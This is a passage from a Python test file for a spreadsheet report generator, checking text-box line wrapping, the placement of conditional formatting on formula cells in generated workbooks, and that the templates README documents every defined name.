    box = TextBox(width=100, size=10, bold=False)
    assert box.lines("short") == 1
    assert box.lines("a text of several words that wraps") == 2
    assert box.lines("one\ntwo\nthree") == 3
    assert box.lines("unbroken" * 10) == 5
    assert box.height("\n" * 1000) == 409


def test_no_conditional_format_lies_on_a_check(tmp_path):
    """LibreOffice 7.4 dies on printing one over a truth value."""
    for book in (written(a_claim(), tmp_path), written_report(tmp_path)):
        for sheet in book:
            checks = [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
            assert not [c for c in checks if any(c in formats for formats in sheet.conditional_formatting)]


def test_the_readme_lists_every_name_of_the_templates():
    listed = set(re.findall(r"`([a-z_]+)`", (TEMPLATES / "README.md").read_text(encoding="utf-8")))
    for template in ("claim.xlsx", "variance.xlsx"):
        assert set(load_workbook(TEMPLATES / template).defined_names) <= listed
